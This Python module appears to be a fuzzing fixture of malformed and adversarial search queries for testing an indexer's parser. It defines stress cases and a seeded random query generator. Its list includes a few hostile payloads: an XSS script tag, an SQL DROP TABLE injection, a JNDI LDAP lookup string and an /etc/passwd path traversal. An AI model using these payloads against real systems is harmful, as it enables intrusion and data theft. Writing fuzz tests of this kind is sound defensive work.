"""Queries that somebody may type, paste or send to bring a search down."""

from random import Random
from string import ascii_lowercase

from indexer.query.fields import FIELDS

OPERATORS = [
    "AND",
    "OR",
    "NOT",
    "-",
    "+",
    "!",
    "&&",
    "||",
    "(",
    ")",
    '"',
    "~",
    "*",
    "?",
    ":",
    "/s",
    "/p",
    "w/3",
    "pre/2",
    "near/5",
    "w/",
    "..",
    "^",
    "[",
    "]",
    "{",
    "}",
    "TO",
    "OU",
    "\\",
]
QUOTES = "\"＂“”„‟«»‹›「」『』‘’‚‛'`´″〝〞"
UNSEEN = [
    "\x00",
    "\ud800",
    "\udfff",
    "\u200e",
    "\u200f",
    "\u202e",
    "\u2066",
    "\u2069",
    "\ufeff",
    "\u200b",
    "\u200d",
    "\u00ad",
    "\u0301" * 50,
    "\U000e0001",
    "\uffff",
    "\u2028",
]

VOWELS = "aeiou"

NAUGHTY = {
    "one letter and a star": "a*",
    "only signs": "?*",
    "stars": "*" * 900,
    "forty prefixes": " OR ".join(f"{a}{b}r*" for a in "abcdefgh" for b in VOWELS),
    "thirty prefixes": " OR ".join(f"{a}{b}r*" for a in "abcdef" for b in VOWELS),
    "thirty fuzzy words": " ".join(f"{a}mmigrat~2" for a in ascii_lowercase),
    "a chain of patterns": " w/250 ".join(["imm*"] * 30),
    "a chain of groups": " w/250 ".join(["(police OR the OR of OR city)"] * 8),
    "a chain of common words": " /p ".join(["the"] * 32),
    "a thousand parentheses": "(" * 1_000,
    "a thousand pairs": "(" * 1_000 + ")" * 1_000,
    "a word in deep parentheses": "(" * 499 + "a" + ")" * 499,
    "ten thousand characters": "x" * 10_000,
    "ten thousand words": "police " * 10_000,
    "one long word": "x" * 1_000,
    "a long pattern": "pol" + "?*" * 400,
    "a slow pattern": "pol" + "*a" * 300 + "*b",
    "nothing but NUL": "\x00",
    "NUL inside": "pol\x00ice AND \x00",
    "half a pair": "\ud800 police \udfff",
    "right to left": "\u202epolice\u202c \u2067NOT\u2069 -\u200frally",
    "many accents": "e" + "\u0301" * 900,
    "many joiners": "\u200d" * 999,
    "far too fuzzy": "police~999",
    "fuzzy for ever": "police~" + "9" * 900,
    "quotes in quotes": '"“«"»”"',
    "a word of every script": "police полиция 警察 警察署 경찰 شرطة משטרה पुलिस αστυνομία",
    "no distance": "police w/0 status",
    "far too far": "police w/99999999999 status",
    "two links": "police /s /s status",
    "a link at the end": "police /s",
    "less than no distance": '"police status"~-1',
    "a loose phrase of many": f'"{"the police " * 60}"~250',
    "a phrase of many": f'"{"the " * 240}"',
    "full-width": "（ｐｏｌｉｃｅ　ＯＲ　＂ｒａｌｌｙ）",
    "a thousand minus signs": "-" * 1_000,
    "NOT again and again": "NOT " * 200 + "a",
    "field in field": "title:" * 150 + "a",
    "an open bracket": "date:[2016 TO",
    "a year of many digits": "year:" + "9" * 900,
    "digits of another script": "year:٢٠١٧ w/٣ a",
    "markup": "<script>alert(1)</script>",
    "an injection": "'; DROP TABLE documents; --",
    "a format": "%s%n{0}{__class__}${jndi:ldap://a.example}",
    "a path": "../../../../etc/passwd",
    "a tag of a stem": "en:polic fr:polic und:police",
    "a line of controls": "".join(map(chr, range(32))),
    "the end of Unicode": "\U0010ffff \uffff",
    **{f"alone: {sign}": sign for sign in (*OPERATORS, *QUOTES)},
    **{f"open: {quote}": f"police {quote}rally city" for quote in QUOTES},
    **{f"nothing in {field.name}": f"{field.name}:" for field in FIELDS},
    **{f"junk in {field.name}": f'{field.name}:"-\x00*"' for field in FIELDS},
}

WORDS = [
    "police",
    "the",
    "of",
    "city",
    "immigr*",
    "polise~",
    "polise~2",
    "vill?s",
    "l'été",
    "北京",
    "שלום",
    "é",
    "x" * 60,
    "2017",
    "12:30",
    "https://a.example/?a=b*",
    "co-op",
    "C++",
    "don't",
]
WHOLE = [
    '"police status"',
    '"the of"~9',
    "«la ville»",
    "(a OR the)",
    "-(the city)",
    "year:2016?",
    "date:2016..",
    "lang:fr",
    'city:"London, Ontario"',
    "place:6093943",
    "removed:follow",
    "title:(police pre/2 the)",
    "author:plu*",
    "source:harbour~2",
    "after:2015",
    "NOT the",
]
ANY_FIELD = [*(f"{field.name}:" for field in FIELDS), "titel:", "site:"]
LINKS = ["w/3", "/s", "pre/250", "/p"]
GAPS = [" ", "", " OR ", " AND ", "\u3000"]


def junk(count: int, seed: int) -> tuple[str, ...]:
    """So many queries that differ, the same for the same seed; half have well made parts alone."""
    chance = Random(seed)
    made: dict[str, None] = {}
    while len(made) < count:
        made[chance.choice((sound, mixed))(chance)] = None
    return tuple(made)


def sound(chance: Random) -> str:
    """Parts that are each well made, with any gap between them."""
    parts = (chance.choice(WORDS + WHOLE) for _ in range(chance.randint(1, 5)))
    return chance.choice(GAPS).join(parts)


def mixed(chance: Random) -> str:
    """Parts of every kind, well linked or not; perhaps none."""
    parts = (chance.choice((part, linked))(chance) for _ in range(chance.randint(0, 7)))
    return chance.choice(GAPS).join(parts)


def linked(chance: Random) -> str:
    """A word, a link, and any part."""
    return f"{chance.choice(WORDS + WHOLE[:4])} {chance.choice(LINKS)} {part(chance)}"


def part(chance: Random) -> str:
    """A part of one of the kinds, or a few characters of any script."""
    kind = chance.choice((WORDS, WHOLE, OPERATORS, QUOTES, UNSEEN, ANY_FIELD, ()))
    return chance.choice(kind) if kind else characters(chance)


def characters(chance: Random) -> str:
    """Up to three characters: of ASCII, of the first scripts, or of all that Unicode can number."""
    most = (0x7F, 0x2FFF, 0x10FFFF)
    return "".join(chr(chance.randint(0, chance.choice(most))) for _ in range(chance.randint(0, 3)))
